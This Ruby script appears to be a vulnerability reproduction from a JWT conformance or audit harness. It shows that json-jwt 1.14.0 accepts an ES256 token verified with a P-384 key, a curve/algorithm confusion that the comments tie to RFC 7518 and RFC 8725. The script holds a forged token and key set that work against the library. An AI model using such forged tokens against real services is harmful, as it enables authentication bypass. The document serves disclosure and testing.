# frozen_string_literal: true

# Finding: json-jwt 1.14.0 verifies an ES256 token with a P-384 key. With ES256 and ES384
# allowed, the token's kid selects the set's P-384 key (JSON::JOSE#with_jwk_support), and
# JSON::JWS#valid? verifies an ECDSA signature over SHA-256 with whatever curve the key has:
# verify_ecdsa_group! only generates a fresh key on the curve the alg names and checks that
# key, never comparing it with the verification key; the signature is split by the key's own
# size (raw_to_asn1). JSON::JWT.decode has no option that binds a curve to an alg.
#
# RFC 7518 §3.4: ES256 is "ECDSA using P-256 and SHA-256"; RFC 8725 §3.1: "each key MUST be
# used with exactly one algorithm, and this MUST be checked when the cryptographic operation is
# performed". A P-384 key published for ES384 verifies here a signature under another algorithm.
#
# Reproduces: ecdsa/es256-signed-by-p384-key (forgery)
#
# Run: ruby adapters/json-jwt/repro.rb   (Debian's ruby and ruby-json-jwt; no network).
# Configured exactly as adapters/json-jwt/adapter.rb for this vector's profile (algorithms ES256
# and ES384); json-jwt checks no claims and reads no clock.

require 'json/jwt'

ID = 'ecdsa/es256-signed-by-p384-key'
TOKEN = 'eyJhbGciOiJFUzI1NiIsImtpZCI6InAzODQiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2l' \
        'kIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0a' \
        'SI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.N30x3JTCnci3wqaq4oLiNFeCpUTyiKqd5Z-XiC50OdAp' \
        'pf5Tm56D0KcHd45470xYdPimEN-t-nlkRYVRJmhaP0IVHn25qq4hWYWaf9IZOkc_pw-KO3OktxWh8yTubw4u'
JWKS = '{"keys":[{"crv":"P-384","kid":"p384","kty":"EC","use":"sig","x":"L7sEUkkF-LfDYiaMeKV6kzFD7oBQ0ti2LVUPxjhIz_-4-' \
       'bQHzRPIfnR2RA8o0x5k","y":"Mz9ugU5C1rbjCMja3boHI2sceo1S0gTT7GM0IJrxqMsC41GAv2t44bbOw4ocU9Al"}]}'

begin
  jwt = JSON::JWT.decode(TOKEN, JSON::JWK::Set.new(JSON.parse(JWKS)), %i[ES256 ES384])
rescue StandardError => e
  puts "NOT REPRODUCED #{ID}: json-jwt #{Gem.loaded_specs['json-jwt'].version} rejected the token (#{e.class}: #{e.message})"
  exit 1
end
puts "REPRODUCED #{ID}: json-jwt #{Gem.loaded_specs['json-jwt'].version} accepted alg #{jwt.header['alg']} verified with the P-384 key #{jwt.header['kid'].inspect} (sub #{jwt['sub'].inspect})"
exit 0
